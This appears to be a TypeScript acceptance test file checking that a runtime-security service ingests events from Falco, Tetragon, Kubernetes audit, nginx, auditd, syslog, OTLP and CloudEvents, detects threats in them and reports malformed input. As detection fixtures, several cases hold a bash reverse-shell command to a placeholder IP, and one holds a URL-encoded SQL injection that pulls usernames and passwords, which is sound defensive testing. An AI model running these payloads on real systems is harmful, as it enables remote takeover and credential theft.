// What senders send today, unchanged, over HTTP: taken, detected at once, and named where a part of it is bad.
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditEvent, cloudEvent, falcoAlert, otlpRequest, seeds, tetragonExec } from "../../src/runtime/decoder-seeds.sample.ts";
import type { EventReceipt } from "../../src/contract/runtime.ts";
import { markerIds, named, openRuntimeUnderTest, sshdLine } from "./runtime-under-test.ts";
import type { RuntimeUnderTest } from "./runtime-under-test.ts";

let under: RuntimeUnderTest;
beforeAll(async () => { under = await openRuntimeUnderTest(); }, 60_000);
afterAll(() => under.close());

const lines = (...all: readonly unknown[]): string => all.map((one) => (typeof one === "string" ? one : JSON.stringify(one))).join("\n");
const accessLine = (ip: string, path: string): string => `${ip} - - [22/Nov/2026:11:59:59 +0000] "GET ${path} HTTP/1.1" 200 512 "-" "Mozilla/5.0"`;
const sqli = "/items?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20";
const execve = (serial: number, ...words: readonly string[]): string => [
  `type=SYSCALL msg=audit(1795348799.123:${serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=700 pid=${serial} auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="${words[0]}" exe="/usr/bin/${words[0]}" key="exec"`,
  `type=EXECVE msg=audit(1795348799.123:${serial}): argc=${words.length} ${words.map((word, index) => `a${index}="${word}"`).join(" ")}`,
  `type=EOE msg=audit(1795348799.123:${serial}): `,
].join("\n");

// "curl ... | sh" and friends are rules of content; which one fires is theirs, that one does is ours.
const reverseShell = { ...tetragonExec, process_exec: { ...tetragonExec.process_exec, process: { ...tetragonExec.process_exec.process, exec_id: "bm9kZTo5", binary: "/bin/bash", arguments: '-c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"' } } };
const sidekick = { uuid: "5d1c3e3e-5a1f-4a0e-9c58-3f0f0d0a00aa", output: "12:00:00.000000001: Error A shell", priority: "Error", rule: "Sidekick shell", source: "syscall", tags: ["container"], time: "2026-11-22T11:59:58.123456789Z", hostname: "node-9", output_fields: { "proc.name": "sh", "k8s.ns.name": "shop", "k8s.pod.name": "cart-7d9f8b6c5-x2x4z" } };

describe("test/acceptance/runtime-senders: taken and detected", () => {
  it.each<[sender: string, decoder: string, body: string | object, headers: Record<string, string>, asked: string, workload: string]>([
    ["Falco's http_output", "falco", falcoAlert, {}, "q=Shell in container&kind=sensor", "prod/shop"],
    ["falcosidekick", "falco", sidekick, { "user-agent": "Falcosidekick" }, "q=Sidekick shell&kind=sensor", "shop/cart"],
    ["Tetragon's NDJSON", "tetragon", lines(tetragonExec, reverseShell), { "content-type": "application/x-ndjson" }, "decoder=tetragon&level=high", "prod/shop"],
    ["a cluster's audit webhook", "k8s-audit", { kind: "EventList", apiVersion: "audit.k8s.io/v1", metadata: {}, items: [auditEvent] }, {}, "decoder=k8s-audit", ""],
    ["nginx", "access-log", accessLine("203.0.113.50", sqli), {}, "decoder=access-log&actor=ip:203.0.113.50", ""],
    ["auditd", "auditd", execve(4711, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), {}, "decoder=auditd", ""],
    ["syslog", "syslog", sshdLine("marker-alpha"), {}, `rule=${markerIds.message}`, "host-1"],
    ["lines with ids", "syslog", named([["f:1", sshdLine("marker-alpha", { host: "host-2" })]]).body, named([]).headers, `rule=${markerIds.message}&workload=host-2`, "host-2"],
    ["NDJSON with a mapping", "ndjson?settings=time%3Dts%3Bmap.Image%3Dp.exe%3Bmap.CommandLine%3Dp.cmd%3Blogsource.category%3Dprocess_creation%3Blogsource.product%3Dlinux", lines({ ts: "2026-11-22T11:59:59Z", p: { exe: "/bin/bash", cmd: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1" } }), { "content-type": "application/x-ndjson" }, "decoder=ndjson", ""],
    ["CloudEvents, structured", "cloudevents", cloudEvent(sshdLine("marker-alpha", { host: "ce-1" })) as object, { "content-type": "application/cloudevents+json" }, `rule=${markerIds.message}&q=ce-1`, "ce-1"],
    ["CloudEvents, a batch", "cloudevents", [cloudEvent(sshdLine("marker-alpha", { host: "ce-2" }))], { "content-type": "application/cloudevents-batch+json" }, `rule=${markerIds.message}&q=ce-2`, "ce-2"],
    ["CloudEvents, binary", "cloudevents", JSON.stringify(sshdLine("marker-alpha", { host: "ce-3" })), { "content-type": "application/json", "ce-specversion": "1.0", "ce-id": "b-1", "ce-source": "/acme", "ce-type": "com.acme.log" }, `rule=${markerIds.message}&q=ce-3`, "ce-3"],
    ["anything, told from itself", "auto", lines(accessLine("203.0.113.51", sqli), { ...falcoAlert, uuid: "auto-1", rule: "Shell by auto" }), {}, "q=Shell by auto", "prod/shop"],
  ])("%s", async (_sender, decoder, body, headers, asked, workload) => {
    const receipt = await under.taken(decoder, body, { headers });
    expect(receipt).toMatchObject({ rejected: 0, rejects: [] });
    expect(receipt.opened).toBeGreaterThan(0);
    const found = await under.detections(asked.replaceAll(" ", "%20"));
    expect(found.length, asked).toBeGreaterThan(0);
    if (workload !== "") expect(found.map(({ placement }) => placement.workload)).toContain(workload);
  });

  it("OTLP/HTTP at /v1/logs answers {} and the log line inside it is judged", async () => {
    const reply = await under.call("POST", "/v1/logs", otlpRequest({ stringValue: sshdLine("marker-alpha", { host: "otlp-1", ip: "203.0.113.77" }) }) as object);
    expect([reply.status, reply.headers.get("content-type"), reply.text]).toEqual([200, expect.stringContaining("application/json"), "{}"]);
    expect((await under.detections(`rule=${markerIds.message}&actor=ip:203.0.113.77`)).map(({ count }) => count)).toEqual([1]);
  });

  it("CloudEvents' handshake names the asking origin and a rate", async () => {
    const reply = await under.call("OPTIONS", "/api/v1/ingest/cloudevents", undefined, { as: "nobody", headers: { "webhook-request-origin": "events.example" } });
    expect([reply.status, reply.headers.get("webhook-allowed-origin"), reply.headers.get("webhook-allowed-rate"), reply.headers.get("allow")]).toEqual([200, "events.example", "*", "POST, OPTIONS"]);
  });

  it.each(Object.keys(seeds).filter((id) => !["otlp-logs"].includes(id)))("gzip of what %s reads, with and without the header that says so", async (decoder) => {
    const body = (seeds[decoder] ?? []).join("\n");
    const plain = await under.taken(decoder, body);
    const packed = gzipSync(Buffer.from(body));
    for (const headers of [{ "content-encoding": "gzip" }, { "content-type": "application/gzip" }]) expect(await under.taken(decoder, packed, { headers }), decoder).toMatchObject({ events: plain.events, rejected: plain.rejected });
  });
});

describe("test/acceptance/runtime-senders: what is bad is named, what is good is kept", () => {
  it("207 with the places of bad members; the good ones are detected", async () => {
    const reply = await under.push("falco", lines({ ...falcoAlert, uuid: "p-1", rule: "Partial one" }, "{\"broken", 7, { ...falcoAlert, uuid: "p-2", rule: "Partial two" }), { headers: { "content-type": "application/x-ndjson" } });
    const receipt = reply.json<EventReceipt>();
    expect([reply.status, receipt.events, receipt.rejected, receipt.opened]).toEqual([207, 2, 2, 2]);
    expect(receipt.rejects.map(({ at }) => at)).toEqual(["line 2", "line 3"]);
    expect((await under.detections("q=Partial")).map(({ title }) => title).toSorted()).toEqual(["Partial one", "Partial two"]);
  });

  it("an EventList's bad item is named by its place", async () => {
    const reply = await under.push("k8s-audit", { kind: "EventList", apiVersion: "audit.k8s.io/v1", metadata: {}, items: [auditEvent, "no event", { ...auditEvent, auditID: "other" }] });
    expect([reply.status, reply.json<EventReceipt>().rejects.map(({ at }) => at)]).toEqual([207, ["line 1/items/1"]]);
  });

  it("OTLP says it in partialSuccess", async () => {
    const good = otlpRequest({ stringValue: sshdLine("marker-alpha", { host: "otlp-2", ip: "203.0.113.78" }) }) as { resourceLogs: { scopeLogs: { logRecords: unknown[] }[] }[] };
    good.resourceLogs[0]?.scopeLogs[0]?.logRecords.push("no record");
    const reply = await under.call("POST", "/v1/logs", good);
    expect([reply.status, reply.json<{ partialSuccess: { rejectedLogRecords: string } }>().partialSuccess.rejectedLogRecords]).toEqual([200, "1"]);
    expect(await under.detections(`rule=${markerIds.message}&actor=ip:203.0.113.78`)).toHaveLength(1);
  });

  it.each<[string, string, string]>([["no JSON", "falco", "this is no alert"], ["JSON of another kind", "k8s-audit", "[1, 2, 3]"], ["lines of nothing known", "auto", "\u0001\u0002\nmore of it"]])("nothing readable is 400 with places: %s", async (_what, decoder, body) => {
    const reply = await under.push(decoder, body);
    const { code, errors } = reply.json<{ code: string; errors: { at: string; rule: string }[] }>();
    expect([reply.status, code]).toEqual([400, "runtime.unreadable"]);
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.every(({ at, rule }) => at !== "" && rule !== "")).toBe(true);
  });

  it("an unknown decoder is 404 and names those there are", async () => {
    const reply = await under.push("nosuch", "{}");
    expect([reply.status, reply.json<{ code: string; detail: string }>().code, reply.text]).toEqual([404, "runtime.decoder-unknown", expect.stringContaining("k8s-audit")]);
  });

  it("protobuf at the OTLP door is 415 and says what to set", async () => {
    const reply = await under.call("POST", "/v1/logs", Buffer.from([10, 0]), { headers: { "content-type": "application/x-protobuf" } });
    expect([reply.status, reply.text]).toEqual([415, expect.stringContaining("json")]);
  });

  it("settings that are no name=value are named; without a token nothing is taken", async () => {
    expect((await under.push("ndjson?settings=nonsense", "{}")).json<{ errors: { at: string }[] }>().errors[0]?.at).toBe("/settings");
    expect((await under.push("falco", falcoAlert, { as: "nobody" })).status).toBe(401);
  });
});
